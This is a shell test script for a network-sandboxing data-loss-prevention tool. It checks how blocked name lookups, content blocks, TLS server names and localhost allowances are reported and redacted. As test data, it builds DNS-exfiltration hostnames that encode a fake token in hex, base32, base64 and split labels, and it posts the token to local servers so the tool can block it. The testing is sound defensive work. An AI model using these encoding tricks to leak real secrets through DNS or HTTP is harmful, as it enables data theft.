#!/bin/sh
# 160-messages: what a user reads. A blocked ordinary name is shown in clear
# (stderr, events, summary) and the summary says which allow line would let
# it through, once per destination; a name carrying data (a canary in hex or
# base32, a token split over labels) is redacted everywhere and gets no allow
# line; a content block gets no allow line either. --allow localhost reaches
# a loopback server by name over 127.0.0.1 and ::1, and not 127.0.0.2.
. "$(dirname "$0")/lib.sh"
start_http 127.0.0.1 web

TOKEN=ghp_Msg7Canary3Token9Xq2Kp8Lm5Nn0Rr1Tt4V
LOOK='
import socket, sys
n = int(sys.argv[1])
for h in sys.argv[2:]:
    for i in range(n):
        try: socket.getaddrinfo(h, 443); print("resolved", h)
        except (socket.gaierror, UnicodeError): pass
'
# the canary and its encodings, and the labels an attacker would use
HEX=$(printf '%s' "$TOKEN" | od -An -tx1 | tr -d ' \n')
B32=$(printf '%s' "$TOKEN" | base32 | tr -d '=' | tr 'A-Z' 'a-z')
B64=$(printf '%s' "$TOKEN" | base64 | tr -d '=' | tr '+/' '-_')
LOW=$(printf '%s' "$TOKEN" | tr 'A-Z_' 'a-z-')
cut40() { printf '%s' "$1" | cut -c"$2"; }
N_HEX="$(cut40 "$HEX" 1-40).$(cut40 "$HEX" 41-80).hex.example"
N_B32="$(cut40 "$B32" 1-40).$(cut40 "$B32" 41-64).b32.example"
N_B64="$(cut40 "$B64" 1-30).$(cut40 "$B64" 31-60).b64.example"
# looks like words and hyphens: "ghp-msg7can.ary3tok.en9xq2..."
N_SPLIT="$(printf '%s' "$TOKEN" | tr '_' '-' | sed 's/\(.......\)/\1./g; s/\.$//').split.example"
N_LOW="$(printf '%s' "$LOW" | sed 's/\(........\)/\1./g; s/\.$//').low.example"
N_CASE="$(printf '%s' "$TOKEN" | tr '_' '-' | cut -c1-20).$(printf '%s' "$TOKEN" | cut -c21-40).case.example"

# -- ordinary names: clear, grouped, with the allow line
rm -f "$T/events.jsonl"
jail --allow 127.0.0.1 -- python3 -c "$LOOK" 20 registry.example.org > /dev/null 2> "$T/err"
jail_rc=$?
check "the command's own exit status is kept" [ "$jail_rc" -eq 0 ]
check "stderr names the refused lookup in clear" \
	grep -q '^dlpjail: blocked name lookup of registry.example.org: host is not in the allow list' "$T/err"
check "the event shows the name in clear" \
	event_has '"op":"resolve"' '"host":"registry.example.org"' '"action":"blocked"'
check "the summary groups the 20 refusals into one line" \
	sh -c "[ \$(grep -c 'dlpjail:   .*name lookup of registry.example.org' '$T/err') -eq 1 ] && grep -q 'dlpjail:   20x blocked name lookup of registry.example.org' '$T/err'"
check "the summary gives the --allow line" grep -q -- '--allow registry.example.org' "$T/err"
check "and the policy-file line" grep -q 'policy file: allow registry.example.org)' "$T/err"

# -- exfiltration names: redacted in stderr, events and the summary
rm -f "$T/events.jsonl"
jail --allow 127.0.0.1 --canary "$TOKEN" -- python3 -c "$LOOK" 1 \
	"$N_HEX" "$N_B32" "$N_B64" "$N_SPLIT" "$N_LOW" "$N_CASE" foo.example > /dev/null 2> "$T/err2"
check "an ordinary name in the same run is still clear" \
	grep -q 'dlpjail: blocked name lookup of foo.example: ' "$T/err2"
for n in HEX B32 B64 SPLIT LOW CASE; do
	eval "name=\$N_$n"
	zone=$(printf '%s' "$name" | awk -F. '{ print $(NF-1) }')
	check "$n name: stderr line is redacted" \
		grep -q "^dlpjail: blocked name lookup of <.*>\.$zone\.example: " "$T/err2"
	check "$n name: event host is redacted" event_has '"op":"resolve"' "\"host\":\"<.*>\\.$zone\\.example\""
	first=$(printf '%s' "$name" | cut -c5-16)
	check "$n name: its labels appear nowhere ($first)" \
		sh -c "! grep -qiF -- '$first' '$T/err2' '$T/events.jsonl'"
	check "$n name: no allow line for it" sh -c "! grep -q -- '--allow [^ ]*\.$zone\.example' '$T/err2'"
done
for v in "$TOKEN" "$HEX" "$B32" "$B64" "$LOW" "$(cut40 "$HEX" 1-24)" "$(cut40 "$B32" 1-24)" \
	 "$(cut40 "$B64" 5-24)" "$(cut40 "$TOKEN" 5-20)" "$(cut40 "$LOW" 5-20)"; do
	check "the canary or an encoding of it is nowhere (${v%"${v#?????}"}...)" \
		sh -c "! grep -qiF -- '$v' '$T/err2' '$T/events.jsonl'"
done
# a canary of plain words, split over labels or hyphens: only the scanner
# (on the labels joined) can tell it from a name
jail --canary correcthorsebatterystaple -- python3 -c "$LOOK" 1 \
	correct.horse.battery.staple.w1.example correct-horse-battery-staple.w2.example \
	> /dev/null 2> "$T/err6"
check "a word canary split over labels is redacted" \
	grep -q '^dlpjail: blocked name lookup of <.*>\.w1\.example: ' "$T/err6"
check "a word canary split by hyphens is redacted" \
	grep -q '^dlpjail: blocked name lookup of <.*>\.w2\.example: ' "$T/err6"
check "the word canary appears nowhere" sh -c "! grep -q 'horse' '$T/err6' '$T/events.jsonl'"
check "the summary says why the redacted names get no allow line" \
	grep -q 'no allow line: the name looks like encoded data' "$T/err2"
check "only foo.example gets an allow line" \
	[ "$(grep -c 'to allow it:' "$T/err2")" -eq 1 ]

# -- a refused address names itself and the allow line; a content block has none
rm -f "$T/events.jsonl"
start_http 127.0.0.1 other
jail -- curl -s -S "http://127.0.0.1:$other_PORT/x" > /dev/null 2> "$T/err3"
check "the connect line names the destination" \
	grep -q "^dlpjail: blocked connect to 127.0.0.1:$other_PORT: address is not allowed" "$T/err3"
check "the summary offers the address as the allow line" grep -q -- '--allow 127.0.0.1 ' "$T/err3"
jail --allow 127.0.0.1 --canary "$TOKEN" -- curl -s -S -d "t=$TOKEN" "http://127.0.0.1:$web_PORT/post" > /dev/null 2> "$T/err4"
check "the content block names the destination" \
	grep -q "^dlpjail: blocked send to 127.0.0.1:$web_PORT: canary token" "$T/err4"
check "a content block prints no allow line" sh -c "! grep -q -- '--allow' '$T/err4'"
check "and says which detector and where the details are" \
	grep -q 'no allow line: allowing a host never allows a secret (detector canary; details in the event log)' "$T/err4"
check "the canary is not in the messages" sh -c "! grep -qF '$TOKEN' '$T/err4'"

# -- the SNI of a TLS connection the broker did not resolve: the same rule
if command -v openssl >/dev/null && command -v curl >/dev/null; then
	. "$top_srcdir/t/tls/lib-tls.sh"
	make_ca
	start_https 127.0.0.1 tw
	tls_post() { # NAME [jail options]
		n=$1; shift
		rm -f "$T/events.jsonl"
		jail --allow 127.0.0.1 "$@" --canary "$TOKEN" -- curl -sS -k --http1.1 \
			--connect-to "$n:$tw_PORT:127.0.0.1:$tw_PORT" -d "t=$TOKEN" \
			"https://$n:$tw_PORT/sni" > /dev/null 2> "$T/err5"
	}
	# the server name is a destination too: an allowed address does not
	# allow any name sent to it (an SNI-routing front forwards by name)
	tls_post api.ordinary.example
	check "an SNI the policy does not allow is refused before the hello leaves, named in clear" \
		grep -q '^dlpjail: .*TLS send to api.ordinary.example: server name not allowed' "$T/err5"
	tls_post api.ordinary.example --allow api.ordinary.example
	check "an ordinary SNI is shown in clear on stderr" \
		grep -q '^dlpjail: blocked TLS send to api.ordinary.example: canary token' "$T/err5"
	check "and in the event" event_has '"op":"send"' '"host":"api.ordinary.example"' '"detector":"canary"'
	tls_post "$N_HEX"
	# the canary's hex in the SNI is itself a known-secret transform: the
	# ClientHello may be refused first (then the name never left at all)
	hex_sni_event() {
		event_has '"op":"send"' '"host":"<.*>\.hex\.example"' ||
			event_has '"op":"send"' '"detector":"canary"' '"layers":"raw>hex"'
	}
	check "a hex-canary SNI is redacted on stderr, or its ClientHello refused" \
		grep -Eq '^dlpjail: blocked (TLS send to <.*>\.hex\.example|send to 127\.0\.0\.1:[0-9]+): canary token' "$T/err5"
	check "and in the event" hex_sni_event
	check "the SNI's labels appear nowhere" \
		sh -c "! grep -qiF -- '$(cut40 "$HEX" 1-24)' '$T/err5' '$T/events.jsonl'"
	check "a content block over TLS prints no allow line" sh -c "! grep -q -- '--allow' '$T/err5'"
else
	fail "openssl or curl missing for the SNI checks"
fi

# -- --allow localhost: what localhost means, over IPv4 and IPv6
if python3 -c "import socket; s=socket.socket(socket.AF_INET6); s.bind(('::1', 0))" 2>/dev/null; then
	start_http ::1 web6
	out=$(jail --allow localhost -- curl -s "http://localhost:$web6_PORT/v6" 2>/dev/null)
	check "--allow localhost: curl reaches a ::1 server by name" [ "$out" = hello ]
	out=$(jail --allow localhost -- python3 -c "
import http.client
c = http.client.HTTPConnection('::1', $web6_PORT); c.request('GET', '/py6')
print(c.getresponse().read().decode().strip())" 2>/dev/null)
	check "--allow localhost: python reaches ::1" [ "$out" = hello ]
	# by name only where the resolver maps localhost to ::1 (/etc/hosts)
	if getent ahostsv6 localhost 2>/dev/null | grep -q '^::1 '; then
		out=$(jail --allow localhost -- python3 -c "
import http.client
c = http.client.HTTPConnection('localhost', $web6_PORT); c.request('GET', '/py6n')
print(c.getresponse().read().decode().strip())" 2>/dev/null)
		check "--allow localhost: python reaches ::1 by name" [ "$out" = hello ]
	fi
else
	fail "no IPv6 loopback to test ::1 on"
fi
out=$(jail --allow localhost -- curl -s -4 "http://localhost:$web_PORT/v4" 2>/dev/null)
check "--allow localhost: curl reaches a 127.0.0.1 server by name" [ "$out" = hello ]
out=$(jail --allow localhost -- python3 -c "
import urllib.request
print(urllib.request.urlopen('http://localhost:$web_PORT/pyv4').read().decode().strip())" 2>/dev/null)
check "--allow localhost: python urllib reaches 127.0.0.1 by name" [ "$out" = hello ]
rm -f "$T/events.jsonl"
out=$(jail --allow localhost -- python3 -c "
import socket, errno
s = socket.socket()
try: s.connect(('127.0.0.2', $web_PORT)); print('connected')
except OSError as e: print(errno.errorcode.get(e.errno))" 2>/dev/null)
check "--allow localhost does not allow 127.0.0.2 by address" [ "$out" = EACCES ]
check "the 127.0.0.2 refusal is evented" event_has '"op":"connect"' '"ip":"127.0.0.2"' '"action":"blocked"'
out=$(jail -- curl -s "http://localhost:$web_PORT/noallow" 2>/dev/null)
check "without --allow localhost, localhost stays refused" [ "$out" != hello ]
check "the servers saw exactly the allowed requests" \
	sh -c "grep -q 'GET /v4' '$web_LOG' && ! grep -q 'noallow' '$web_LOG' && ! grep -q '/post' '$web_LOG'"
finish
